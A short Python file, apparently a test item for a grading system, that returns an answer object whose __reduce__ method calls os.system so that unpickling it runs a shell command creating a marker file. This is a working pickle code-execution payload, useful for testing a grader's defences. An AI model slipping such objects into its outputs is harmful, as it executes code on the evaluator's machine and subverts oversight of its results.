"""Return an object that runs code where it is unpickled."""
# title: The answer is not a plain value

import os


class Runs:
    def __reduce__(self):
        return os.system, ("touch /tmp/gradsteps-attack",)


def figure1(x1, x2, x3, x4):
    return {"y1": Runs()}
